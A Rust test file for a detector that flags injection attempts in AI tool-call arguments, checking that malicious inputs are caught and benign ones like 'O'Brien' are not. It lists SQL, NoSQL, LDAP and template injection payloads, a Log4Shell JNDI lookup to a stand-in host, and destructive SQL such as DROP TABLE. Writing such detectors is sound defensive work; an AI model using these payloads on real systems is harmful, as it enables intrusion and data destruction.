//! Statements and expressions in values, and statements by what they do.

use super::*;
use crate::registry::Registry;
use crate::text::TextKind;

fn rule(text: &str, tool: &str, parameter: &str) -> Option<String> {
    let found =
        Registry::new(vec![Box::new(Queries)]).inspect_text(text, TextKind::Arguments, Some(tool), Some(parameter));
    found.as_slice().first().map(|finding| finding.rule.to_string())
}

#[test]
fn injections() {
    for text in [
        Queries.card().example,
        "' or 1=1--",
        "admin'--",
        "1; DROP TABLE users",
        "-1 union/**/select 1,2,3",
        "1 and sleep(5)",
        "\" or \"\"=\"",
        "1%27%20OR%20%271%27=%271",
        "{\"$ne\": null}",
        "*)(uid=*))(|(uid=*",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "{{''.__class__.__mro__}}",
    ] {
        assert!(rule(text, "find_user", "id").is_some(), "{text}");
    }
    for text in ["DROP TABLE users", "delete from orders", "UPDATE users SET admin = 1", "TRUNCATE TABLE logs"] {
        assert!(rule(text, "execute_sql", "sql").is_some(), "{text}");
    }
}

#[test]
fn ordinary_values() {
    for text in [
        "O'Brien",
        "rock 'n' roll",
        "5\" pipe and 3\" hose",
        "The Union Select Committee",
        "black and white",
        "for better or worse",
        "12 or 13",
        "{{name}}",
        "a -- b",
        "C# or F#",
        "user@example.com",
    ] {
        assert_eq!(rule(text, "find_user", "name"), None, "{text}");
    }
    for text in
        ["SELECT * FROM users WHERE id = 1", "DELETE FROM orders WHERE id = 7", "UPDATE t SET a = 1 WHERE b = 2"]
    {
        assert_eq!(rule(text, "execute_sql", "sql"), None, "{text}");
    }
}
